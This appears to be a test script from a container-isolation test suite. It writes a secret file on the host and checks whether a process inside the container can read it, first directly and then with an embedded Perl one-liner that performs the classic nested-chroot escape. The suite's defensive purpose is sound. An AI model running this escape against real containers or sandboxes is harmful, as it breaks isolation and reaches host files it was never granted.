#!/usr/bin/python3
"""Break-out 03: read one of the host's files from a container."""

import os
import random
import sys

sys.path.insert(0, os.path.join(sys.path[0], ".."))
from attack import Attack

attack = Attack()

# The classic way out of a chroot: make a second one, which leaves the working directory
# above the new root, and climb from there. Step 03 uses no chroot at all.
CLIMB = """
mkdir $ARGV[1]; chroot $ARGV[1] or die "chroot: $!\n"; chdir ".." for 1..64;
chroot "." or die "chroot: $!\n"; rmdir $ARGV[1]; exec "cat", $ARGV[0];
"""

secret = f"the host's secret, {random.randint(10**6, 10**7)}"
path = f"/var/tmp/secret-{os.getpid()}"
with open(path, "w") as file:
    file.write(secret)

process = attack.inside("cat", path)
attack.report(f"read {path} of the host", secret in process.stdout, process)
process = attack.inside("perl", "-e", CLIMB, path, f"/tmp/climb-{os.getpid()}")
attack.report("climb out with a second chroot", secret in process.stdout, process)
os.unlink(path)

attack.end()
